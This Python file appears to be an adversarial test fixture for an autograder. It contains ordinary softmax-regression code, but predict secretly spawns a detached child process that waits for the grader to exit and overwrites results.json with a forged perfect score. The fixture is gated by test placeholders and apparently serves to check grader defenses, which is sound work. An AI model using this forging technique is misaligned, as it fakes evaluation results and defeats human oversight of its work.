"""From predict (ep03, the last question graded), starts a Python child with subprocess in a new session (start_new_session=True) that rewrites the report after the grader wrote it.

The child carries the test's token in its command line; it waits for the
grading process to exit (at most 9 s), writes a forged results.json to the
--results path and cwd read from /proc/<ppid> (only inside the test's
guarded directories), and exits.

honest: ep01, ep03
questions: ep01, ep03
mode: cli
expect: equal
checks: no-survivors, report-unchanged
"""

import json
import os
import subprocess
import sys

import numpy as np


# Where the kit is deployed is no secret (on Gradescope, /autograder/source);
# the test puts this checkout's folder here.
ADV_KIT = "__ADV_KIT__"
KIT = "/work/main" if ADV_KIT.startswith("__") else ADV_KIT


# The test replaces these two placeholders with a per-run token and a
# directory it controls; left as they are (the file graded anywhere else),
# every side effect below outside the worker's own temporary directory is off.
ADV_TOKEN = "__ADV_TOKEN__"
ADV_SANDBOX = "__ADV_SANDBOX__"
GUARD = ".adversarial-sandbox"


def _under_test():
    return not ADV_TOKEN.startswith("__")


def _guarded(directory):
    """Whether a directory is one the test controls (it holds the guard file)."""
    return _under_test() and os.path.isfile(os.path.join(str(directory), GUARD))


def _grader_argv(pid):
    """The grading process's command line (readable: same user, no hidepid)."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def _grader_cwd(pid):
    try:
        return os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        return None


def _results_path(argv):
    """The --results argument of `python -m autograder grade ...`, if any."""
    for i, arg in enumerate(argv):
        if arg == "--results" and i + 1 < len(argv):
            return argv[i + 1]
        if arg.startswith("--results="):
            return arg.split("=", 1)[1]
    return None

_CHILD_CODE = r"""
import json, os, sys, time
grader, results, cwd, sandbox, token = sys.argv[1:6]
GUARD = ".adversarial-sandbox"
deadline = time.monotonic() + 9.0
while time.monotonic() < deadline and os.path.exists(f"/proc/{grader}"):
    time.sleep(0.05)
report = json.dumps({"score": 100.0, "marker": "adversarial-fake", "token": token,
                     "tests": [{"name": "ep01 forged", "score": 100.0, "max_score": 100.0,
                                "output": "adversarial-fake", "visibility": "visible"}]})
targets = [os.path.join(sandbox, "results.json")]
if results:
    targets.append(os.path.abspath(os.path.join(cwd or "/", results)))
if cwd:
    targets.append(os.path.join(cwd, "results.json"))
for target in targets:
    if os.path.isfile(os.path.join(os.path.dirname(target), GUARD)):
        try:
            with open(target, "w") as f:
                f.write(report)
        except OSError:
            pass
"""
_SPAWNED = []


def _spawn_child():
    if _SPAWNED or not _under_test():
        return
    _SPAWNED.append(True)
    grader = os.getppid()
    argv = _grader_argv(grader)
    subprocess.Popen(
        [sys.executable, "-c", _CHILD_CODE, str(grader), _results_path(argv) or "",
         _grader_cwd(grader) or "", ADV_SANDBOX, f"adv-marker-{ADV_TOKEN}"],
        start_new_session=True, close_fds=True, stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def softmax(z):
    z = _as_float_array(z)
    shifted = z - np.max(z, axis=-1, keepdims=True)
    e = np.exp(shifted)
    return e / np.sum(e, axis=-1, keepdims=True)


def log_softmax(z):
    z = _as_float_array(z)
    shifted = z - np.max(z, axis=-1, keepdims=True)
    return shifted - np.log(np.sum(np.exp(shifted), axis=-1, keepdims=True))


def predict(W, b, X):
    _spawn_child()
    return np.argmax(X @ W + b, axis=1)


def cross_entropy(logits, y):
    logp = log_softmax(logits)
    y = np.asarray(y)
    n = logp.shape[0]
    if y.ndim == 1:
        picked = logp[np.arange(n), y]
        return float(-np.mean(picked))
    return float(-np.sum(y * logp) / n)


def cross_entropy_grad(logits, y):
    p = softmax(logits)
    y = np.asarray(y)
    n, k = p.shape
    if y.ndim == 1:
        target = one_hot(y, k)
    else:
        target = y
    return (p - target) / n


def one_hot(y, n_classes):
    y = np.asarray(y)
    Y = np.zeros((y.shape[0], int(n_classes)))
    Y[np.arange(y.shape[0]), y] = 1.0
    return Y


def init_params(n_features, n_classes, rng, scale=0.01):
    W = rng.normal(0.0, scale, size=(n_features, n_classes))
    b = np.zeros(n_classes)
    return W, b


def l2_penalty(W, reg):
    penalty = 0.5 * reg * float(np.sum(W * W))
    return penalty, reg * W


def loss_and_grad(W, b, X, y, reg):
    Z = X @ W + b
    dZ = cross_entropy_grad(Z, y)
    penalty, dW_reg = l2_penalty(W, reg)
    loss = cross_entropy(Z, y) + penalty
    return loss, X.T @ dZ + dW_reg, np.sum(dZ, axis=0)


def minibatches(n, batch_size, rng):
    perm = rng.permutation(n)
    return [perm[i:i + batch_size] for i in range(0, n, batch_size)]


def train(X, y, *, X_val=None, y_val=None, n_classes=None, epochs=10,
          batch_size=128, lr=0.1, reg=1e-4, seed=0):
    X = np.asarray(X)
    y = np.asarray(y)
    n, d = X.shape
    k = int(n_classes) if n_classes is not None else int(y.max()) + 1
    rng = np.random.default_rng(seed)
    W, b = init_params(d, k, rng)
    # float32 input trains in float32: a float64 W would upcast every batch
    # to float64 before X @ W.  Float64 input keeps init_params' dtype.
    single = X.dtype == np.float32
    # own writable copies, so the steps below can update them in place
    W = np.array(W, dtype=np.float32 if single else None)
    b = np.array(b, dtype=np.float32 if single else None)
    history = {"train_loss": [], "val_acc": []}
    monitor = X_val is not None and y_val is not None
    for _ in range(epochs):
        batch_losses = []
        for idx in minibatches(n, batch_size, rng):
            loss, dW, db = loss_and_grad(W, b, X[idx], y[idx], reg)
            W -= lr * dW
            b -= lr * db
            batch_losses.append(float(loss))
        history["train_loss"].append(float(np.mean(batch_losses)))
        if monitor:
            accuracy = np.mean(predict(W, b, X_val) == np.asarray(y_val))
            history["val_acc"].append(float(accuracy))
    return W, b, history


def _as_float_array(z):
    z = np.asarray(z)
    if not np.issubdtype(z.dtype, np.floating):
        z = z.astype(np.float64)
    return z
